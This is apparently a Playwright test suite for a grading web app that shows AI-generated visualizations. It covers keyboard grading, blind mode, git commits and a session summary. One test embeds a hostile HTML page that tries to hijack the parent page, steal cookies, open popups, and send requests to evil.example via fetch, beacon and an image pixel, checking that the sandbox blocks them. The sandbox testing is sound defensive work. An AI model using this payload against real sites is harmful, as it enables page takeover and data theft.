"""The grader driven end to end in the real Chromium: keys, hotkeys, submit, git, blind mode,
and a hostile visualization that must reach neither the grader page nor the network."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.test_grader_app import MODELS, copy_project, git, grading_template, write_output  # noqa: F401 (fixture)
from vizhub_pipeline.core.layout import Layout
from vizhub_pipeline.grading.loading import load_grades

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]

pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs a Chromium (set up with `make setup`)")


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        yield browser
        browser.close()


class Traffic:
    """Every request the browser makes; any request to a host other than 127.0.0.1 is aborted."""

    def __init__(self, context):
        self.requests: list[tuple[str, str]] = []  # (url, url of the frame that made it)
        self.outside: list[str] = []
        self.failures: dict[str, str] = {}
        self.finished: list[str] = []
        context.on("request", self._seen)
        context.on("requestfailed", lambda request: self.failures.__setitem__(request.url, request.failure or ""))
        context.on("requestfinished", lambda request: self.finished.append(request.url))
        context.route("**/*", self._route)

    def _seen(self, request):
        try:
            frame = request.frame.url
        except Exception:  # service worker or gone frame
            frame = ""
        self.requests.append((request.url, frame))

    def _route(self, route):
        host = urlsplit(route.request.url).hostname
        if host == "127.0.0.1":
            route.continue_()
        else:
            self.outside.append(route.request.url)
            route.abort()


@pytest.fixture
def session(tmp_path, browser, grading_template):  # noqa: F811 (the fixture imported above)
    """A real grader on free ports over a project in git, and a fresh browser context."""
    from vizhub_pipeline.grading.web.server import build_server

    started = []

    def start(grader="alice", blind=True, before_start=None):
        layout = copy_project(grading_template, tmp_path / f"project-{len(started)}")
        server, warnings = build_server(layout, grader, blind=blind)
        if before_start:
            before_start(layout, server)
        server.start()
        started.append(server)
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        traffic = Traffic(context)
        page = context.new_page()
        page.set_default_timeout(10_000)
        return layout, server, page, traffic

    yield start
    for server in started:
        server.stop()


def api_items(page, server) -> list[dict]:
    return page.request.get(f"{server.url}/api/items").json()["items"]


def test_grade_with_the_keyboard_then_check_the_csv_and_the_commit(session):
    import pygit2

    from vizhub_pipeline.grading.loading import load_grades
    from vizhub_pipeline.grading.names import grade_file_path

    layout, server, page, traffic = session()
    items = api_items(page, server)
    first, second = items[0]["id"], items[1]["id"]
    page.goto(f"{server.url}/")
    page.wait_for_url(f"{server.url}/item/{first}")
    # blind: no model name anywhere on the page
    assert page.locator("#model-hidden").is_visible()
    content = page.content()
    assert not any(model in content for model in MODELS)
    # the live view renders the output inside the sandbox
    # arrows move between items
    page.keyboard.press("ArrowRight")
    page.wait_for_url(f"{server.url}/item/{second}")
    page.keyboard.press("ArrowLeft")
    page.wait_for_url(f"{server.url}/item/{first}")
    # hotkeys score; Shift+digit is aesthetics
    page.keyboard.press("4")
    page.keyboard.press("Shift+Digit2")
    assert page.locator('input[name="functionality"][value="4"]').is_checked()
    assert page.locator('input[name="aesthetics"][value="2"]').is_checked()
    assert page.locator("#functionality-text").text_content().startswith("4: ")
    # N focuses the notes; digits typed there are text, Shift+Enter is a new line
    page.keyboard.press("n")
    assert page.evaluate("document.activeElement.id") == "notes"
    page.keyboard.type("Bars fine, 5 colours")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("tooltip missing")
    assert page.locator('input[name="functionality"][value="4"]').is_checked()
    assert page.locator("#notes").input_value() == "Bars fine, 5 colours\ntooltip missing"
    # Enter submits and moves on to the next ungraded item; blind, the banner names no model
    page.keyboard.press("Enter")
    page.wait_for_url(f"{server.url}/item/{second}")
    flash = page.locator("#flash")
    assert flash.is_visible()

    grades = load_grades(layout)
    assert len(grades) == 1
    grade = grades[0]
    assert (grade.functionality, grade.aesthetics, grade.grader) == (4, 2, "alice")
    assert grade.notes == "Bars fine, 5 colours\ntooltip missing"
    assert grade.model in MODELS and flash.text_content().startswith(f"Saved {grade.challenge} (commit ")
    assert not any(model in flash.text_content() for model in MODELS)
    assert (grade.challenge, grade.model) == (items[0]["challenge"], grade.model)
    path = grade_file_path(layout, "alice")
    assert path.is_file()
    relative = path.relative_to(layout.root).as_posix()
    # committed: HEAD holds the file as it is on disk, and only that file changed
    repo = pygit2.Repository(str(layout.root))
    head = repo.head.peel(pygit2.Commit)
    assert repo[head.tree[relative].id].data == path.read_bytes()
    assert git(layout.root, "show", "--name-only", "--format=", "HEAD").split() == [relative]
    assert git(layout.root, "status", "--porcelain").strip() == ""
    assert len(git(layout.root, "log", "--format=%H").split()) == 2

    # back on the graded item, the model is revealed and the earlier grade is shown
    page.keyboard.press("ArrowLeft")
    page.wait_for_url(f"{server.url}/item/{first}")
    assert page.locator("#model-name").text_content() == grade.model
    assert "functionality 4, aesthetics 2" in page.locator("#earlier-grade").text_content()
    assert page.locator('input[name="functionality"][value="4"]').is_checked()
    # U jumps to the next ungraded item
    page.keyboard.press("u")
    page.wait_for_url(f"{server.url}/item/{second}")
    # submitting without both scores asks for them and saves nothing
    page.keyboard.press("3")
    page.keyboard.press("Enter")
    assert "Give both scores first" in page.locator("#form-message").text_content()
    assert len(load_grades(layout)) == 1
    # the help overlay lists the keys
    page.keyboard.press("?")
    assert page.locator("#help").is_visible()
    page.keyboard.press("Escape")
    assert not page.locator("#help").is_visible()
    assert traffic.outside == []


def test_live_view_and_challenge_filter_without_blind(session):
    layout, server, page, traffic = session(blind=False)
    page.goto(f"{server.url}/")
    # not blind: models in order and named from the start
    assert page.locator("#model-name").text_content() == "baseline/reference"
    page.locator("#challenge-select").select_option("barsTwo")
    page.wait_for_url(f"{server.url}/item/*?challenge=barsTwo")
    assert page.locator("#position").text_content() == "1 / 3"
    assert page.locator("#challenge-title").text_content() == "Bars two"
    # the reference output draws its bars with the local copy of D3, inside the sandbox
    frame = page.frame_locator("#live")
    frame.locator("rect.bar").first.wait_for()
    assert frame.locator("rect.bar").count() == 3
    assert page.locator("#live").get_attribute("sandbox") == "allow-scripts allow-same-origin"
    assert any("/lib/cdn.jsdelivr.net/npm/d3@7" in url for url, _ in traffic.requests)
    assert traffic.outside == []


HOSTILE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>innocent bars</title></head>
<body><pre id="out">running</pre>
<script>
const results = {};
function note(key, value) {
  results[key] = value;
  document.getElementById("out").textContent = JSON.stringify(results);
}
function attempt(key, action) { try { action(); note(key, "done"); } catch (error) { note(key, "blocked"); } }
attempt("parentDom", () => { window.parent.document.body.innerHTML = "<h1>pwned</h1>"; });
attempt("topDom", () => { window.top.document.getElementById("grader-name").textContent = "pwned"; });
attempt("cookie", () => {
  if (!document.cookie.length) { throw new Error("nothing"); }
  window.stolen = document.cookie;
});
note("storageBefore", window.localStorage.getItem("x") || "empty");
attempt("storage", () => { window.localStorage.setItem("x", "1"); });
attempt("popup", () => { if (!window.open("https://evil.example/popup")) { throw new Error("no popup"); } });
attempt("topNavigation", () => { window.top.location = "https://evil.example/navigated"; });
new Image().src = "https://evil.example/pixel.png";
const probes = {
  outside: () => fetch("https://evil.example/steal"),
  beacon: () => navigator.sendBeacon("https://evil.example/beacon", "x") ? Promise.resolve() : Promise.reject(),
  appRead: () => fetch("APP_ORIGIN/api/items").then(r => r.text()),
  appWrite: () => fetch("APP_ORIGIN/api/grades", {method: "POST", headers: {"Content-Type": "text/plain"}, body: "{}"}),
};
Promise.all(Object.entries(probes).map(([key, probe]) => {
  let run;
  try { run = Promise.resolve(probe()); } catch (error) { run = Promise.reject(error); }
  return run.then(() => note(key, "done"), () => note(key, "blocked"));
})).then(() => { document.body.dataset.done = "yes"; });
</script></body></html>
"""


@pytest.mark.hostile(area="grader", guards="escape", outcome="held")
def test_hostile_visualization_reaches_neither_the_grader_nor_the_network(session):
    def plant(layout: Layout, server):
        files = {"index.html": HOSTILE.replace("APP_ORIGIN", server.url), "data.csv": "name,value\na,1\n"}
        write_output(layout, "barsOne", "evil/model", files)

    layout, server, page, traffic = session(blind=False, before_start=plant)
    page.context.add_cookies([{"name": "grader_session", "value": "s3cret", "url": server.url}])
    hostile = next(item for item in api_items(page, server) if item["model"] == "evil/model")
    url = f"{server.url}/item/{hostile['id']}"
    page.goto(url)
    frame = page.frame_locator("#live")
    frame.locator("body[data-done=yes]").wait_for()
    page.wait_for_timeout(300)  # let any late navigation or request happen
    results = json.loads(frame.locator("#out").text_content())
    # a beacon is queued (true) before the policy drops it, and a top navigation may be
    # refused silently: both are checked on the network and on the page below
    must_fail = ("parentDom", "topDom", "cookie", "popup", "outside", "appRead", "appWrite")
    assert {key: results.get(key) for key in must_fail} == dict.fromkeys(must_fail, "blocked")
    assert set(results) == set(must_fail) | {"beacon", "topNavigation", "storage", "storageBefore"}
    # the frame is credentialless: its storage is its own and gone with the page (a reload
    # starts empty), and the grader's cookies are not visible in it
    assert (results["storage"], results["storageBefore"]) == ("done", "empty")
    page.reload()
    frame.locator("body[data-done=yes]").wait_for()
    assert json.loads(frame.locator("#out").text_content())["storageBefore"] == "empty"
    # the grader page is untouched and still where it was
    assert page.url == url
    assert page.locator("#grader-name").text_content() == "alice"
    assert page.locator("h1").all_text_contents() == ["Bars one (barsOne)"]
    assert page.locator("#grade-form").count() == 1
    assert page.locator("#model-name").text_content() == "evil/model"
    # nothing left 127.0.0.1, no popup opened, and the page never reached the grader's origin
    assert traffic.outside == []
    # a request the page's policy stops shows up as a request that failed with "csp" and never
    # reached the network (the route), nor finished
    foreign = [url for url, _ in traffic.requests if urlsplit(url).hostname != "127.0.0.1"]
    assert {url: traffic.failures.get(url) for url in foreign} == dict.fromkeys(foreign, "csp")
    assert not [url for url in traffic.finished if urlsplit(url).hostname != "127.0.0.1"]
    assert page.context.pages == [page]  # no popup
    sandbox_frames = [(req, frame) for req, frame in traffic.requests if frame.startswith(server.sandbox_url)]
    assert sandbox_frames, "the hostile page did not load"
    assert not [req for req, _ in sandbox_frames if req.startswith(server.url)]
    assert not layout.grades.exists() or not any(layout.grades.iterdir())


def test_skip_flag_and_the_session_summary_after_the_last_item(session, tmp_path):
    layout, server, page, traffic = session()  # blind
    page.set_viewport_size({"width": 1440, "height": 900})
    items = page.request.get(f"{server.url}/api/items?challenge=barsOne").json()["items"]
    first, second, third = (item["id"] for item in items)
    page.goto(f"{server.url}/?challenge=barsOne")
    page.wait_for_url(f"{server.url}/item/{first}?challenge=barsOne")
    # F flags the item (the button shows it), S skips to the next one without grading
    page.keyboard.press("f")
    assert page.locator("#flag-button").get_attribute("aria-pressed") == "true"
    page.keyboard.press("s")
    page.wait_for_url(f"{server.url}/item/{second}?challenge=barsOne")
    assert page.locator("#flag-button").get_attribute("aria-pressed") == "false"
    # the buttons do the same as the keys: flag and unflag this one
    page.locator("#flag-button").click()
    page.locator("#flag-button").click()
    assert page.locator("#flag-button").get_attribute("aria-pressed") == "false"
    page.locator("h1").click()  # Enter on a focused button presses that button
    page.keyboard.press("3")
    page.keyboard.press("Shift+Digit3")
    page.keyboard.press("Enter")
    page.wait_for_url(f"{server.url}/item/{third}?challenge=barsOne")
    assert not any(model in page.locator("#flash").text_content() for model in MODELS)
    assert page.locator("#summary").is_hidden()
    # the last item: submitting sums the session up instead of moving on
    page.keyboard.press("4")
    page.keyboard.press("Shift+Digit4")
    page.keyboard.press("Enter")
    page.locator("#summary").wait_for()
    assert page.url == f"{server.url}/item/{third}?challenge=barsOne"
    assert page.locator("#summary-graded").text_content() == "2"
    assert page.locator("#summary-skipped").text_content() == "1"
    assert page.locator("#summary-flagged").text_content() == "1"
    assert re.fullmatch(r"\d+:\d\d", page.locator("#summary-time").text_content())
    assert page.locator("#summary-flags a").all_text_contents() == ["barsOne, item 1 of 3"]
    assert page.locator("#summary-flags a").get_attribute("href") == f"/item/{first}?challenge=barsOne"
    assert page.locator("#summary-next").get_attribute("href") == f"/item/{first}?challenge=barsOne"
    assert "current grade for 2 of 3 items here; 1 left" in page.locator("#summary-left").text_content()
    assert page.locator("#progress-mine").text_content() == "2"  # the counters are not stale
    message = page.locator("#form-message").text_content()
    assert message.startswith("Saved barsOne (commit ") and not any(model in message for model in MODELS)
    assert len(load_grades(layout)) == 2
    # at 1440x900, as a grader sees it (VIZHUB_SCREENSHOTS=<folder> keeps the PNG to look at)
    import os

    folder = Path(os.environ.get("VIZHUB_SCREENSHOTS") or tmp_path)
    folder.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(folder / "grader-session-summary.png"))
    assert traffic.outside == []


def test_not_blind_the_banner_names_the_model_just_graded(session):
    layout, server, page, traffic = session(blind=False)
    page.goto(f"{server.url}/")
    page.keyboard.press("2")
    page.keyboard.press("Shift+Digit2")
    page.keyboard.press("Enter")
    page.locator("#flash").wait_for()
    graded = load_grades(layout)[0]
    assert f"Saved {graded.challenge}: that was {graded.model}" in page.locator("#flash").text_content()
